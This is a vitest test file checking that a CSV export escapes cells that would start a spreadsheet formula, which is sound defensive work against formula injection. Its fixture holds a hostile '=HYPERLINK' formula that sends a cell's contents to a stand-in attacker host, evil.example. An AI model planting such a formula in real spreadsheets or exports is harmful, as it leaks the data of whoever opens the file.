import { describe, expect, it } from 'vitest';
import { toCsv } from './export-table';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A3,"Andes")';

describe("Control's CSV", () => {
  it('writes a company that would start a formula as text, and keeps figures as they are', () => {
    const csv = toCsv({
      note: 'Campaigns.',
      headers: ['Campaign', 'Advertiser', 'Budget'],
      body: [
        ['@Launch', HYPERLINK, '-1,250.50'],
        ['Verano; Andes', '+56 9 1234', '1.50%'],
      ],
    });
    expect(csv).toBe(
      '\uFEFFCampaigns.\r\n' +
        'Campaign,Advertiser,Budget\r\n' +
        `'@Launch,"'=HYPERLINK(""http://evil.example/?x=""&A3,""Andes"")","-1,250.50"\r\n` +
        `"Verano; Andes",'+56 9 1234,1.50%\r\n`,
    );
  });
});
